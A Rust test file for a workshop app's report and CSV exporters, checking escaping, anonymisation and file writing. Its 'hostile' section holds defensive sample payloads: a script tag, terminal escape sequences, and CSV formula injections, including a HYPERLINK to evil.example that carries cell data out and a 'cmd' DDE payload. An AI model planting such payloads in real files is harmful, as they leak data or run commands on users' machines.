use super::*;
use crate::domain::apply;
use std::collections::BTreeMap;

const EXAMPLE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/sessions/exemple-drome.toml");

fn example() -> Workshop {
    crate::store::load(Path::new(EXAMPLE)).expect("the example loads")
}

fn files(w: &Workshop, format: Format, opts: &Options) -> BTreeMap<String, String> {
    render(w, format, opts)
        .unwrap()
        .into_iter()
        .map(|f| {
            (
                f.path.display().to_string(),
                String::from_utf8(f.bytes).unwrap(),
            )
        })
        .collect()
}

/// The text the room might type at its worst.
const TRICKY: &str =
    "Tarif « 1 € » ; \"gratuit\" | *vraiment* _oui_\n- <script>alert('x')</script> & 🤝 #1";

fn tricky() -> Workshop {
    let mut w = example();
    let now = crate::domain::Stamp::from_ymd_hms(2024, 3, 14, 11, 0, 0).unwrap();
    let op = w
        .op_add_proposal(TRICKY, vec![1], "Asso « ; » \"A\"", now)
        .unwrap();
    apply(&mut w, op).unwrap();
    w
}

#[test]
fn golden_report_markdown_and_html() {
    let f = files(&example(), Format::All, &Options::new(Lang::Fr));
    insta::assert_snapshot!("rapport_md", f["rapport.md"]);
    insta::assert_snapshot!("rapport_html", f["rapport.html"]);
    insta::assert_snapshot!("fiches_md", f["fiches.md"]);
}

#[test]
fn golden_csv_files() {
    let f = files(&example(), Format::Csv, &Options::new(Lang::Fr));
    assert_eq!(
        f.keys().collect::<Vec<_>>(),
        [
            "bulletins.csv",
            "fiches.csv",
            "propositions.csv",
            "resultats.csv"
        ]
    );
    for (name, text) in &f {
        assert!(
            text.starts_with('\u{feff}'),
            "{name}: the BOM tells Excel it is UTF-8"
        );
        insta::assert_snapshot!(format!("csv_{name}"), text.trim_start_matches('\u{feff}'));
    }
}

#[test]
fn golden_sheet_files() {
    let f = files(&example(), Format::Sheets, &Options::new(Lang::Fr));
    let tomls: Vec<&String> = f.keys().filter(|k| k.ends_with(".toml")).collect();
    assert_eq!(
        tomls,
        [
            "fiches/FA-01.toml",
            "fiches/FA-02.toml",
            "fiches/FA-03.toml"
        ]
    );
    insta::assert_snapshot!("fiche_fa01_toml", f["fiches/FA-01.toml"]);
}

#[test]
fn the_english_report_speaks_english() {
    let f = files(&example(), Format::Md, &Options::new(Lang::En));
    let md = &f["rapport.md"];
    assert!(
        md.contains("## Proposals by axis") && md.contains("## Proposals kept"),
        "{md}"
    );
    assert!(!md.contains("Propositions retenues"));
}

#[test]
fn tricky_text_is_escaped_in_markdown_and_html() {
    let f = files(&tricky(), Format::All, &Options::new(Lang::Fr));
    let md = &f["rapport.md"];
    let line = md.lines().find(|l| l.contains("Tarif")).unwrap();
    assert!(line.contains("\\| \\*vraiment\\* \\_oui\\_"), "{line}");
    let next = md
        .lines()
        .skip_while(|l| !l.contains("Tarif"))
        .nth(1)
        .unwrap();
    assert!(
        next.trim_start().starts_with("\\- \\<script\\>"),
        "the second line stays in the item: {next}"
    );
    let html = &f["rapport.html"];
    assert!(!html.contains("<script>"), "no live script");
    assert!(html.contains("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; 🤝 #1"));
    assert!(!html.contains("http://") && !html.contains("https://") && !html.contains(" src="));
}

#[test]
fn tricky_text_survives_a_csv_round_trip_in_both_styles() {
    for (style, delimiter) in [(CsvStyle::French, b';'), (CsvStyle::Standard, b',')] {
        let opts = Options {
            csv: style,
            ..Options::new(Lang::Fr)
        };
        let rendered = render(&tricky(), Format::Csv, &opts).unwrap();
        let file = rendered
            .iter()
            .find(|f| f.path == Path::new("propositions.csv"))
            .unwrap();
        let bytes = file
            .bytes
            .strip_prefix("\u{feff}".as_bytes())
            .unwrap_or(&file.bytes);
        assert_eq!(
            style == CsvStyle::French,
            bytes.len() < file.bytes.len(),
            "BOM only for French spreadsheets"
        );
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(delimiter)
            .from_reader(bytes);
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        let row = rows.iter().find(|r| r[1].starts_with("Tarif")).unwrap();
        assert_eq!(&row[1], TRICKY);
        assert_eq!(&row[4], "Asso « ; » \"A\"");
    }
}

#[test]
fn decimals_use_a_comma_for_french_spreadsheets_and_a_point_otherwise() {
    let share = |style| {
        let opts = Options {
            csv: style,
            ..Options::new(Lang::Fr)
        };
        let f = files(&example(), Format::Csv, &opts);
        let results = f["resultats.csv"].clone();
        results.lines().nth(1).unwrap().to_string()
    };
    // 13 dots of 72: 18.1 %.
    assert!(
        share(CsvStyle::French).contains(";13;18,1;"),
        "{}",
        share(CsvStyle::French)
    );
    assert!(
        share(CsvStyle::Standard).contains(",13,18.1,"),
        "{}",
        share(CsvStyle::Standard)
    );
}

#[test]
fn anonymous_exports_name_nobody() {
    let w = example();
    let opts = Options {
        anonymous: true,
        ..Options::new(Lang::Fr)
    };
    let f = files(&w, Format::All, &opts);
    for p in &w.participants {
        for (name, text) in &f {
            assert!(!text.contains(&p.name), "{name} names {}", p.name);
        }
    }
    assert!(f["rapport.md"].contains("Organisations et collèges représentés"));
    assert!(f["bulletins.csv"].contains("V1"));
}

#[test]
fn exporting_never_changes_the_workshop_and_reports_an_unwritable_folder() {
    let w = tricky();
    let before = w.clone();
    let dir = tempfile::tempdir().unwrap();
    let written = write(&w, Format::All, &Options::new(Lang::Fr), dir.path()).unwrap();
    assert_eq!(w, before);
    assert_eq!(written.len(), 2 + 4 + 1 + 3);
    // A folder that cannot be made: a file stands where it should be.
    let blocker = dir.path().join("occupé");
    std::fs::write(&blocker, "x").unwrap();
    let err = write(
        &w,
        Format::Md,
        &Options::new(Lang::Fr),
        &blocker.join("rapport"),
    )
    .unwrap_err();
    assert!(err.path.starts_with(&blocker), "{:?}", err.path);
    // Nothing half-written anywhere.
    let leftovers: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .filter_map(Result::ok)
        .filter(|e| e.file_name().to_string_lossy().starts_with('.'))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

#[test]
fn an_empty_workshop_exports_without_a_hitch() {
    let w = Workshop::new(crate::domain::Details {
        title: "Vide".into(),
        ..Default::default()
    });
    let f = files(&w, Format::All, &Options::new(Lang::Fr));
    assert!(f["rapport.md"].contains("Aucune proposition."));
    assert_eq!(f["resultats.csv"].lines().count(), 1, "the header only");
}

#[test]
fn a_synthesis_report_says_what_each_workshop_brought() {
    let a = example();
    let mut b = crate::domain::sample::generated(6, 0);
    b.workshop.title = "Atelier B".into();
    let inputs = [
        crate::domain::synthesis::Input {
            file: "drome.toml",
            workshop: &a,
        },
        crate::domain::synthesis::Input {
            file: "b.toml",
            workshop: &b,
        },
    ];
    let s = crate::domain::synthesis::combine(
        &inputs,
        crate::domain::Details {
            title: "Synthèse".into(),
            ..Default::default()
        },
    )
    .unwrap();
    let md = &files(&s, Format::Md, &Options::new(Lang::Fr))["rapport.md"];
    assert!(md.contains("| drome.toml | 29 | 1 | 12 | 3 |"), "{md}");
    assert!(md.contains("| b.toml | 6 | 0 | 0 | 0 |"), "{md}");
    assert!(md.contains("venue de drome (n° 12)"), "{md}");
}

mod hostile {
    use super::*;
    use crate::domain::text::is_active;
    use proptest::prelude::*;
    use std::sync::Arc;

    /// Puts `text` everywhere a file can carry text a person typed, as a
    /// hand-edited or imported file would (the app cleans what is typed;
    /// a file is not typed).
    fn with_text_everywhere(text: &str) -> Workshop {
        let mut w = example();
        w.workshop.title = format!("Titre {text}");
        w.workshop.territory = text.to_string();
        let p = Arc::make_mut(&mut w.proposals[0]);
        p.text = format!("{text} fin");
        p.author = text.to_string();
        w.participants[0].name = text.to_string();
        w.participants[0].organisation = text.to_string();
        w.sheets[0].title = text.to_string();
        w.sheets[0].constat = text.to_string();
        w.sheets[0].pilote.institution = text.to_string();
        w.rounds[0].name = text.to_string();
        w.axes[0].short = text.to_string();
        w
    }

    fn active_in(name: &str, bytes: &[u8]) -> Option<String> {
        let text = String::from_utf8_lossy(bytes);
        text.char_indices()
            .find(|(_, c)| is_active(*c) && *c != '\r')
            .map(|(i, c)| format!("{name}: U+{:04X} at byte {i}", c as u32))
    }

    fn every_output(w: &Workshop) -> Vec<(String, Vec<u8>)> {
        let mut out = Vec::new();
        for (csv, anonymous) in [(CsvStyle::French, false), (CsvStyle::Standard, true)] {
            let mut opts = Options::new(Lang::Fr);
            opts.csv = csv;
            opts.anonymous = anonymous;
            for f in render(w, Format::All, &opts).unwrap() {
                out.push((f.path.display().to_string(), f.bytes));
            }
        }
        // What the command line prints, through its writer.
        let mut printed = crate::commands::Neutral(Vec::new());
        use std::io::Write;
        let _ = write!(printed, "{}", crate::commands::summary_text(Lang::Fr, w));
        let _ = write!(printed, "{}", crate::commands::one_line(Lang::En, w));
        out.push(("cli".into(), printed.0));
        out
    }

    #[test]
    fn an_escape_sequence_in_a_file_reaches_no_output_raw() {
        let w = with_text_everywhere("\u{1b}]0;PWNED\u{7}\u{1b}[2J\u{8}\u{7f}\u{9b}\u{202e}");
        for (name, bytes) in every_output(&w) {
            assert_eq!(active_in(&name, &bytes), None);
            let text = String::from_utf8_lossy(&bytes);
            if name.ends_with(".md") || name == "cli" {
                assert!(
                    text.contains("PWNED") && text.contains('␛') && text.contains('␇'),
                    "{name} shows what was there"
                );
            }
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(24))]

        /// Any text put into a workshop comes out of every export and the
        /// command line's output with no control character.
        #[test]
        fn any_text_leaves_no_control_character_in_any_output(text in "\\PC{0,8}[\\x00-\\x1f\\x7f-\\x9f\\u{202a}-\\u{202e}\\u{2066}-\\u{2069}]{1,6}\\PC{0,8}") {
            let w = with_text_everywhere(&text);
            for (name, bytes) in every_output(&w) {
                prop_assert_eq!(active_in(&name, &bytes), None);
            }
        }
    }

    #[test]
    fn formula_cells_are_defused_for_spreadsheets_only() {
        let mut w = example();
        let p = Arc::make_mut(&mut w.proposals[0]);
        p.text = "=HYPERLINK(\"http://evil.example/?q=\"&A1;\"clic\")".into();
        p.author = "+cmd|' /C calc'!A0".into();
        let q = Arc::make_mut(&mut w.proposals[1]);
        q.text = "-30 % de non-recours".into();
        q.author = "@SUM(1+1)".into();
        let french = files(&w, Format::Csv, &Options::new(Lang::Fr));
        let csv = &french["propositions.csv"];
        assert!(csv.contains("'=HYPERLINK("), "{csv}");
        assert!(csv.contains("'+cmd|"), "{csv}");
        assert!(csv.contains("'-30 % de non-recours"), "{csv}");
        assert!(csv.contains("'@SUM(1+1)"), "{csv}");
        assert!(
            !csv.contains(";=HYPERLINK") && !csv.contains(";\"=HYPERLINK"),
            "{csv}"
        );
        let mut opts = Options::new(Lang::Fr);
        opts.csv = CsvStyle::Standard;
        let standard = files(&w, Format::Csv, &opts);
        let csv = &standard["propositions.csv"];
        assert!(
            csv.contains(",-30 % de non-recours,"),
            "programs read it as typed: {csv}"
        );
        assert!(!csv.contains("'-30"), "{csv}");
    }
}
